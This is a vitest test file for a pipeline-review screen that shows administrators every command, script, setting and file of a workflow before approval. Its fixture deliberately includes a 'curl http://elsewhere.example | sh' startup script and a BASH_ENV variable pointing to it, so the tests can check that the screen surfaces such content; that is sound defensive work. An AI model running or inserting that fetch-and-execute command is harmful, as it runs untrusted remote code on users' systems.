import type { PipelineReview as Review } from '@cohortium/contract';
import { expect, test } from 'vitest';
import { renderMarkup, textOfHtml } from '#testing';
import { PipelineReview } from './pipeline-review.tsx';

const id = '0'.repeat(32);
const review: Review = {
  id,
  name: 'Small',
  version: '2.0.0',
  document_sha256: 'ab'.repeat(32),
  unavailable_reason: null,
  is_contained: false,
  processes: [
    {
      id: 'main',
      kind: 'Workflow',
      contained: true,
      parts: [{ what: 'Step write, scatter', text: 'depth' }],
    },
    {
      id: 'write',
      kind: 'CommandLineTool',
      contained: false,
      parts: [
        { what: 'Command', text: 'sh -c "touch table"' },
        { what: 'Written before the job starts: start.sh', text: 'curl http://elsewhere.example | sh' },
        { what: 'JavaScript library', text: 'function hidden() { return 1; }' },
        { what: 'Environment variable BASH_ENV', text: 'start.sh' },
        { what: 'inputs, depth, inputBinding, position', text: '2' },
      ],
    },
  ],
  files: [
    { path: 'bin/run.sh', text: 'echo from the script', sha256: 'cd'.repeat(32), size_bytes: 20 },
    { path: 'bin/tool', text: null, sha256: 'ef'.repeat(32), size_bytes: 4096 },
  ],
  document: '{"cwlVersion":"v1.2"}',
  approved: { version: '1.0.0', document_sha256: 'aa'.repeat(32), decided_at: null, diff: '-stdout: a\n+stdout: b' },
};

const textOf = (shown: Review) => textOfHtml(renderMarkup(<PipelineReview review={shown} />)).replaceAll('&quot;', '"');

test('an administrator reads every program, script and setting before approving a pipeline', () => {
  const text = textOf(review);
  for (const { parts } of review.processes) for (const part of parts) expect(text).toContain(part.text);
  for (const { text: script } of review.files) expect(text).toContain(script ?? '4,096 bytes, SHA-256 efef');
  expect(text).toContain(review.document);
  expect(text).toContain('+stdout: b');
});

test('settings stand in their own table, programs do not', () => {
  const drawn = renderMarkup(<PipelineReview review={review} />);
  const tables = drawn.match(/<table.*?<\/table>/gs) ?? [];
  const settings = textOfHtml(tables.find((table) => table.includes('Settings of write')) ?? '');
  expect(settings).toContain('Environment variable BASH_ENV');
  expect(settings).toContain('inputs, depth, inputBinding, position');
  expect(settings).not.toContain('curl');
});

test('a binary file, a long value and a missing comparison are reported, not left out', () => {
  const long = 'x'.repeat(500);
  const [flow] = review.processes;
  if (!flow) throw new Error('There is no process.');
  const processes = [{ ...flow, parts: [{ what: 'Step write, when', text: long }] }];
  const approved = review.approved && { ...review.approved, diff: null };
  const text = textOf({ ...review, processes, approved });
  expect(text).toContain(long);
  expect(text).toContain('The versions differ too much for a line-by-line comparison. Review all of this version.');
});
